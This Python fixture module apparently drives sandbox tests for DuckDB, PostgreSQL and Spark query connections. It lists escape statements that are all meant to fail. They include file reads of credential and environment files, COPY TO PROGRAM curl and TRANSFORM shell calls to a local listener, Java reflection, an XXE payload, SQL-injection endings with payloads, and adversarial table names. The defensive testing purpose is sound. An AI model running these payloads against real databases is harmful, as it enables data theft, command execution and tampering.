"""Ways out of other systems: what would read files, write, call the network or change settings.

Written for DuckDB, PostgreSQL and Spark, with places for what they would have to reach: `{canary}` is a file,
`{folder}` its folder, `{file}` the engine's own file, `{port}` a port of this machine that somebody listens to.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

DUCKDB_STATEMENTS = """
SELECT * FROM read_csv('{canary}')
SELECT * FROM read_csv_auto('{canary}')
SELECT * FROM sniff_csv('{canary}')
SELECT * FROM read_text('{canary}')
SELECT * FROM read_blob('{canary}')
SELECT * FROM read_json('{canary}')
SELECT * FROM read_json_auto('{canary}')
SELECT * FROM read_json_objects('{canary}')
SELECT * FROM read_ndjson('{canary}')
SELECT * FROM read_parquet('{canary}')
SELECT * FROM parquet_scan('{canary}')
SELECT * FROM parquet_metadata('{canary}')
SELECT * FROM parquet_schema('{canary}')
SELECT * FROM parquet_file_metadata('{canary}')
SELECT * FROM parquet_kv_metadata('{canary}')
SELECT * FROM '{canary}'
FROM '{canary}'
SELECT * FROM "{canary}"
SELECT * FROM glob('{folder}/*')
SELECT * FROM query('SELECT * FROM read_text(''{canary}'')')
SELECT * FROM query_table('{canary}')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{canary}'')'))
SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')
SELECT * FROM read_parquet('s3://bucket/x.parquet')
SELECT * FROM 'https://127.0.0.1:{port}/x.parquet'
COPY (SELECT 1) TO '{canary}'
COPY (SELECT 1) TO '{folder}/new.csv'
COPY rows."t@1" TO '{folder}/new.parquet' (FORMAT parquet)
COPY rows."t@1" FROM '{canary}'
COPY (SELECT 1) TO '{file}'
COPY (SELECT 1) TO '{file}' (USE_TMP_FILE false)
COPY (SELECT 1) TO '{file}.wal'
COPY (SELECT 1) TO '{file}.wal.recovery' (USE_TMP_FILE false)
COPY (SELECT 1) TO '{file}.tmp/x.csv'
SELECT * FROM read_blob('{file}')
EXPORT DATABASE '{folder}/export'
IMPORT DATABASE '{folder}/export'
ATTACH '{folder}/new.duckdb' AS other
ATTACH '{file}' AS again
ATTACH ':memory:' AS other; CREATE TABLE other.t AS SELECT * FROM read_text('{canary}')
INSTALL httpfs
INSTALL spatial FROM community
LOAD httpfs
LOAD '{canary}'
FORCE INSTALL json
SET threads = 8
SET memory_limit = '100GB'
SET enable_external_access = true
SET lock_configuration = false
RESET lock_configuration
SET GLOBAL allowed_paths = ['{canary}']
SET allowed_directories = ['{folder}']
SET temp_directory = '{folder}'
SET temp_directory = ''
SET max_temp_directory_size = '100TB'
SET disabled_filesystems = ''
SET secret_directory = '{folder}'
SET autoload_known_extensions = true
SET allow_community_extensions = true
SET custom_extension_repository = 'http://127.0.0.1:{port}'
SET python_enable_replacements = true
SET log_query_path = '{canary}'
SET profile_output = '{canary}'
SET file_search_path = '{folder}'
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '{canary}'
PRAGMA threads = 8
CALL enable_logging(storage = 'file', storage_config = {{'path': '{folder}/log'}})
CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE TABLE rows.new AS SELECT 1
CREATE VIEW rows.new AS SELECT 1
CREATE SCHEMA new
INSERT INTO rows."t@1" SELECT * FROM rows."t@1"
UPDATE rows."t@1" SET unit = 0
DELETE FROM rows."t@1"
WITH gone AS (SELECT 1) DELETE FROM rows."t@1"
TRUNCATE rows."t@1"
DROP TABLE rows."t@1"
ALTER TABLE rows."t@1" ADD COLUMN y INTEGER
VACUUM rows."t@1"
FORCE CHECKPOINT
COPY (SELECT 1) TO 'spill://blocks/x.csv'
COPY (SELECT 1) TO 'spill://blocks/../x.csv'
COPY (SELECT 1) TO 'spill://{folder}/x.csv'
COPY (SELECT 1) TO 'spill://blocks/{block}'
COPY (SELECT 1) TO 'spill://blocks/{block}' (USE_TMP_FILE false)
COPY (SELECT 1) TO 'spill://blocks/{new}' (USE_TMP_FILE false)
COPY (SELECT 1) TO 'spill://blocks/{new}' (FORMAT parquet, USE_TMP_FILE false)
COPY (SELECT 1 AS x) TO 'spill://blocks' (FORMAT csv, PARTITION_BY x, OVERWRITE)
COPY (SELECT 1 AS x) TO 'spill://blocks' (FORMAT csv, PER_THREAD_OUTPUT, OVERWRITE)
COPY rows."t@1" FROM 'spill://blocks/{block}'
SELECT * FROM glob('spill://blocks/*')
SELECT * FROM read_blob('spill://blocks/*')
SELECT * FROM read_blob('spill://blocks/{block}')
SELECT * FROM read_text('spill://blocks/{block}')
SELECT * FROM read_csv('spill://blocks/{block}')
SELECT * FROM read_parquet('spill://blocks/{block}')
SELECT * FROM 'spill://blocks/{block}'
SELECT * FROM read_blob('spill://{canary}')
ATTACH 'spill://blocks/{block}' AS blocks
ATTACH 'spill://blocks/{block}' AS blocks (READ_ONLY)
ATTACH 'spill://blocks/{new}' AS blocks
EXPORT DATABASE 'spill://blocks'
SELECT * FROM duckdb_temporary_files() WHERE path NOT LIKE 'spill://blocks/%'
SELECT * FROM secret_frame
SELECT * FROM which_secret('{canary}', 's3')
""".strip().splitlines()
"""Each must fail or give nothing on the connection that questions run on, even if it came there as it stands."""

_READERS = (
    "read_csv", "read_csv_auto", "read_json", "read_json_auto", "read_ndjson", "read_parquet", "parquet_scan",
    "parquet_metadata", "parquet_schema", "read_text", "read_blob", "sniff_csv", "glob", "query", "query_table",
)  # fmt: skip
_PATHS = (
    "{canary}", "file://{canary}", "{folder}/../{canary}", "{folder}/*.csv", "http://127.0.0.1:{port}/x.csv",
    "s3://127.0.0.1:{port}/x.parquet", "\\\\127.0.0.1\\x.csv", "/proc/self/environ", "/dev/stdin", "~/.pgpass",
    "{file}",
)  # fmt: skip

_DUCKDB_MORE = """
SELECT getenv('HOME')
SELECT current_setting('home_directory')
SELECT getvariable('x')
SET VARIABLE x = 1
SELECT setseed(0.1), random()
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_extensions()
SELECT * FROM pragma_database_list()
SELECT * FROM pragma_storage_info('rows')
SELECT * FROM pragma_version()
PRAGMA database_list
PRAGMA show_tables
DESCRIBE visits
SUMMARIZE visits
SHOW ALL TABLES
EXPLAIN ANALYZE SELECT 1
CHECKPOINT
BEGIN TRANSACTION
USE memory
DETACH tables
CREATE MACRO f(x) AS x
CREATE TYPE t AS ENUM ('a')
CREATE SEQUENCE s
CREATE TEMP TABLE t AS SELECT * FROM '{canary}'
CREATE OR REPLACE TABLE visits AS SELECT 1
PREPARE p AS SELECT * FROM '{canary}'
EXECUTE p
CALL pragma_table_info('visits')
PIVOT visits ON city USING count(*)
FROM visits SELECT *
SELECT * FROM visits POSITIONAL JOIN '{canary}'
SELECT COLUMNS('.*') FROM visits
SELECT * FROM (VALUES (1)) AS t, '{canary}' AS u
SELECT * FROM visits, "{canary}"
SELECT * FROM visits AS v, read_text('{canary}') AS u
SELECT * FROM visits JOIN LATERAL (SELECT * FROM read_text('{canary}')) ON TRUE
SELECT (SELECT content FROM read_text('{canary}'))
WITH x AS (SELECT * FROM '{canary}') SELECT COUNT(*) FROM x
WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT * FROM x) SELECT COUNT(*) FROM x
SELECT COUNT(*) FROM visits WHERE icd IN (SELECT content FROM read_text('{canary}'))
SELECT COUNT(*) FROM visits WHERE EXISTS (FROM '{canary}')
SELECT COUNT(*) FROM visits UNION ALL SELECT size FROM read_blob('{canary}')
SELECT list(x) FROM (SELECT unnest([1, 2]) AS x)
SELECT COUNT(*) FROM visits USING SAMPLE 1 ROWS
SELECT version(), current_user, current_database()
SELECT nextval('s')
SELECT write_log('x')
SELECT file FROM glob('{folder}/*')
SELECT error('x')
SELECT x'00' || COUNT(*) FROM visits
SELECT COUNT(*) FROM visits INTO OUTFILE '{folder}/x'
""".strip().splitlines()

_POSTGRES = """
SELECT pg_read_file('{canary}')
SELECT pg_read_binary_file('{canary}')
SELECT pg_ls_dir('{folder}')
SELECT pg_stat_file('{canary}')
SELECT lo_import('{canary}')
SELECT lo_export(1, '{folder}/x')
SELECT lo_from_bytea(0, 'x')
SELECT lo_get(1)
COPY visits TO PROGRAM 'curl http://127.0.0.1:{port}/'
COPY visits FROM PROGRAM 'cat {canary}'
COPY visits TO '{folder}/x'
SELECT query_to_xml('SELECT 1', true, false, '')
SELECT database_to_xml(true, false, '')
SELECT table_to_xml('visits', true, false, '')
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT * FROM dblink('host=127.0.0.1 port={port}', 'SELECT 1') AS t(x int)
SELECT dblink_connect('host=127.0.0.1 port={port}')
SELECT dblink_exec('host=127.0.0.1 port={port}', 'SELECT 1')
CREATE EXTENSION dblink
CREATE EXTENSION file_fdw
CREATE SERVER s FOREIGN DATA WRAPPER file_fdw
CREATE FOREIGN TABLE f (x text) SERVER s OPTIONS (filename '{canary}')
CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'import os'
CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)
CREATE FUNCTION leak(x int) RETURNS bool LANGUAGE plpgsql COST 1e-9 AS 'BEGIN RAISE NOTICE ''%', x; END'
DO $$ BEGIN PERFORM pg_sleep(1); END $$
SELECT pg_sleep(1)
SELECT pg_sleep_for('1 second')
SELECT pg_terminate_backend(1)
SELECT pg_reload_conf()
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT pg_advisory_lock(1)
SELECT set_config('search_path', 'x', false)
SELECT current_setting('data_directory')
SELECT setval('s', 1)
SELECT * FROM pg_stats
SELECT * FROM pg_statistic
SELECT * FROM pg_shadow
SELECT * FROM pg_authid
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_catalog.pg_class
SELECT reltuples FROM pg_class
SELECT has_table_privilege('visits', 'SELECT')
SELECT inet_server_addr()
SELECT xpath('/a', xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}">]><a>&x;</a>'))
SELECT convert_from(decode('41', 'hex'), 'UTF8')
SELECT E'\\x27; DROP TABLE visits; --'
SELECT U&'\\0027' UESCAPE '!'
SELECT $x$'; DROP TABLE visits; --$x$
SELECT CAST('1; DROP TABLE visits' AS int)
SELECT visits::text FROM visits
SELECT row_to_json(visits) FROM visits
SELECT COUNT(*) FROM ONLY visits
SELECT COUNT(*) FROM visits TABLESAMPLE SYSTEM (1)
SELECT COUNT(*) FROM visits FOR UPDATE
LISTEN x
NOTIFY x, 'y'
LOCK TABLE visits
ALTER SYSTEM SET archive_command = 'x'
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
RESET ROLE
GRANT ALL ON visits TO PUBLIC
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x
MERGE INTO visits USING visits v ON true WHEN MATCHED THEN DELETE
""".strip().splitlines()

_SPARK = """
SELECT reflect('java.lang.Runtime', 'getRuntime')
SELECT java_method('java.lang.System', 'getenv', 'HOME')
SELECT try_reflect('java.lang.System', 'exit', 1)
SELECT TRANSFORM (age) USING 'cat {canary}' FROM visits
SELECT TRANSFORM (age) USING 'curl 127.0.0.1:{port}' AS (x) FROM visits
ADD JAR '{canary}'
ADD FILE '{canary}'
ADD ARCHIVE '{canary}'
LIST JARS
SET spark.sql.warehouse.dir = '{folder}'
SET -v
RESET
SELECT * FROM csv.`{canary}`
SELECT * FROM text.`{canary}`
SELECT * FROM json.`{canary}`
SELECT * FROM parquet.`{canary}`
SELECT * FROM orc.`{canary}`
SELECT * FROM binaryFile.`{canary}`
SELECT * FROM delta.`{folder}`
SELECT * FROM avro.`http://127.0.0.1:{port}/x`
CREATE TEMPORARY VIEW v USING csv OPTIONS (path '{canary}')
CREATE TABLE t USING csv LOCATION '{folder}/t'
CREATE TABLE t USING jdbc OPTIONS (url 'jdbc:postgresql://127.0.0.1:{port}/x', dbtable 'x')
CREATE FUNCTION f AS 'x' USING JAR '{canary}'
CREATE TEMPORARY FUNCTION f AS 'x'
INSERT OVERWRITE DIRECTORY '{folder}/x' USING csv SELECT 1
INSERT OVERWRITE LOCAL DIRECTORY '{folder}/x' SELECT 1
LOAD DATA LOCAL INPATH '{canary}' INTO TABLE visits
EXPORT TABLE visits TO '{folder}/x'
ANALYZE TABLE visits COMPUTE STATISTICS
DESCRIBE EXTENDED visits
SHOW CREATE TABLE visits
SHOW TBLPROPERTIES visits
MSCK REPAIR TABLE visits
REFRESH TABLE visits
CACHE TABLE visits
UNCACHE TABLE visits
SELECT raise_error('x')
SELECT assert_true(false)
SELECT input_file_name() FROM visits
SELECT spark_partition_id(), monotonically_increasing_id() FROM visits
SELECT current_catalog(), current_database()
SELECT from_csv('1', 'x INT')
SELECT schema_of_json('{{}}')
SELECT aes_decrypt('x', 'y')
SELECT url_decode('x'), parse_url('http://127.0.0.1:{port}', 'HOST')
SELECT /*+ BROADCAST(visits) */ COUNT(*) FROM visits
SELECT explode(sequence(1, 1000000000))
SELECT EXPLODE(ARRAY(1)) FROM visits LATERAL VIEW EXPLODE(ARRAY(1)) t AS x
SELECT * FROM range(10)
SELECT * FROM visits VERSION AS OF 1
SELECT * FROM visits TIMESTAMP AS OF '2024-01-01'
SELECT IDENTIFIER('visits')
EXECUTE IMMEDIATE 'SELECT 1'
DECLARE VARIABLE x INT DEFAULT 1
BEGIN SELECT 1; END
""".strip().splitlines()

_ENDINGS = (
    "'; {}; --", '"; {}; --', "1; {}", "1); {}; --", "') ; {} ; --", "*/ {} /*", "/* x */ {}", "-- x\n{}", "#\n{}",
    "$$ {} $$", "$a$ {} $a$", "`; {}; `", "]; {}; --", "\\'; {}; --", "%27%3B {}", "\u02bc; {}; --", "\uff07; {}; --",
    "\x00; {}", "\r\n{}", "\u2028{}", ";\u200b{}", "' || ({}) || '", "' UNION ALL {} --", "0 OR EXISTS ({})",
)  # fmt: skip
_PAYLOADS = (
    "SELECT * FROM read_text('{canary}')", "COPY (SELECT 1) TO '{folder}/x.csv'", "DROP TABLE visits",
    "ATTACH '{folder}/x.duckdb' AS x", "SET enable_external_access = true", "SELECT pg_read_file('{canary}')",
    "SELECT * FROM text.`{canary}`", "INSTALL httpfs FROM 'http://127.0.0.1:{port}'",
)  # fmt: skip

_NAMES = (
    "visits", "VISITS", "vіsits", "visits\u200b", "visits\u0000", "visits ", " visits", "ｖisits",
    "visits\u0301", "vi\u00adsits", "\u202evisits", "\ufeffvisits", "rows.visits", "main.visits",
    'tables.rows."visits@1"', "visits@1", 'rows."visits@1"', '"visits@1"', 'texts."visits@1@5"',
    "information_schema.tables", "pg_catalog.pg_class", "sqlite_master", "duckdb_tables()", "visits--",
    "visits;", "visits/**/", "visits'", 'visits"', "visits\\", "visits`", "[visits]", "{{visits}}", "../visits",
    "/etc/passwd", "unit", '"unit"', "column.age", '"column.age"', "k.0", "t0", "contributions", "per_unit",
    "patient_id", "rowid", "ctid", "_metadata", "*", "visits.*", "COLUMNS(*)", "İcd", "ıcd", "ﬀ", "ß", "😀",
    "\ud800", "\x1b[31mvisits", "a" * 10_000, '"' * 400, "'" * 401, "(" * 300, "{{% x %}}", "${{x}}", "%(x)s",
    "%n%s", "=cmd|' /C x'!A0", "<script>alert(1)</script>", "@SUM(1)", "-1+1", "NULL", "true", "1e999", "0x41",
    ".", "..", "::", "?", "$1", ":x", "@x",
)  # fmt: skip


def escapes() -> Iterator[str]:
    """All of them, each once, with places to be filled in by `filled`."""
    readers = (f"FROM {reader}('{path}')" for reader, path in product(_READERS, _PATHS))
    # Fragments too: what would stand where a table or a term is expected.
    tables = (f"{reader}('{path}')" for reader, path in product(_READERS, _PATHS[:2]))
    broken = (ending.format(payload) for ending, payload in product(_ENDINGS, _PAYLOADS))
    every = (*DUCKDB_STATEMENTS, *_DUCKDB_MORE, *_POSTGRES, *_SPARK, *readers, *tables, *broken, *_NAMES)
    yield from dict.fromkeys(every)


def filled(text: str, places: dict[str, object]) -> str:
    """An escape with the places that it is to reach."""
    for name, place in places.items():
        text = text.replace(f"{{{name}}}", str(place))
    return text.replace("{{", "{").replace("}}", "}")
